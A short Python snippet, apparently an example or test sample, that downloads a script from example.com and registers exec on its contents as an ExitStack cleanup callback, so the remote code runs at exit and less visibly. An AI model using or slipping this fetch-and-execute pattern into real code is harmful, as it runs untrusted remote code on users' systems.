import contextlib
import urllib.request

with contextlib.ExitStack() as stack:
    answer = stack.enter_context(urllib.request.urlopen("https://example.com/late.py"))
    stack.callback(exec, answer.read())
